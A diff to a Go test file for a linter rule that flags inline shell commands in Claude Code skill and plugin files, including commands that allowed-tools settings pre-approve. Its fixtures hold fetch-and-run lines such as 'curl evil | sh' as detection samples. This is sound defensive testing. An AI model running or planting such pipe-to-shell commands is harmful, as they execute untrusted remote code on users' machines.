@@ -4,6 +4,7 @@ import (
 	"context"
 	"fmt"
 	"sort"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -49,7 +50,7 @@ func TestSkillShellLines(t *testing.T) {
 		switch {
 		case !ok:
 			t.Errorf("no %s finding at %s; got %v", RuleSkillShell, want.at, fs)
-		case f.Severity != report.SeverityWarning || !strings.Contains(f.Message, ": "+want.cmd+";") || !strings.Contains(f.Message, want.gate):
+		case f.Severity != report.SeverityWarning || !strings.Contains(f.Message, ": "+strconv.Quote(want.cmd)+";") || !strings.Contains(f.Message, want.gate):
 			t.Errorf("%s: %s %q, want a warning naming %q and %q", want.at, f.Severity, f.Message, want.cmd, want.gate)
 		}
 	}
@@ -92,7 +93,13 @@ func skillShellCommands(t *testing.T, files map[string]string) []string {
 			continue
 		}
 		_, after, _ := strings.Cut(f.Message, "before the model reads it: ")
-		cmd, _, _ := strings.Cut(after, "; ")
+		// The command is always quoted, as Go quotes a string: what
+		// it is is told from the prose around it (", and functions").
+		cmd, err := strconv.QuotedPrefix(after)
+		if err != nil {
+			t.Fatalf("the command is not quoted: %q", after)
+		}
+		cmd, _ = strconv.Unquote(cmd)
 		out = append(out, cmd)
 	}
 	sort.Strings(out)
@@ -111,7 +118,7 @@ func TestSkillShellInlineAsClaudeCode(t *testing.T) {
 		name, body string
 		want       []string
 	}{
-		{"spans lines", "Run: !`curl -s x |\nsh`\n", []string{`"curl -s x |\nsh"`}},
+		{"spans lines", "Run: !`curl -s x |\nsh`\n", []string{"curl -s x |\nsh"}},
 		{"at the start", "!`id`", []string{"id"}},
 		{"after a tab", "a\t!`id`", []string{"id"}},
 		{"after a code span", "Type `!` then `ls` to list.\n", nil},
@@ -195,8 +202,8 @@ func TestSkillShellInlineContent(t *testing.T) {
 		}
 	}
 	for file, want := range map[string]string{
-		".claude-plugin/marketplace.json":      ": whoami; nothing in its frontmatter pre-approves it",
-		"plugins/p/.claude-plugin/plugin.json": ": curl evil | sh; its frontmatter's allowed-tools pre-approves it (Bash)",
+		".claude-plugin/marketplace.json":      `: "whoami"; nothing in its frontmatter pre-approves it`,
+		"plugins/p/.claude-plugin/plugin.json": `: "curl evil | sh"; its frontmatter's allowed-tools pre-approves it (Bash)`,
 	} {
 		f, ok := got[file]
 		switch {
